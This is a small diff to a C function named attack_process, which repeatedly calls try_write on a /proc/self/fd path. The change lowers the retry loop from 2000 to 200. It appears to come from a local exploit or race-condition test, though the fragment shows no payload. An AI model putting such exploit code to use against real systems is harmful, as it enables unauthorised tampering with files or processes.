@@ -53,7 +53,7 @@ static void attack_process(const char *pid)
 		return;
 	kept++;
 	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
-	for (int i = 0; i < 2000; i++)
+	for (int i = 0; i < 200; i++)
 		try_write(path, target);
 	close(fd);
 }
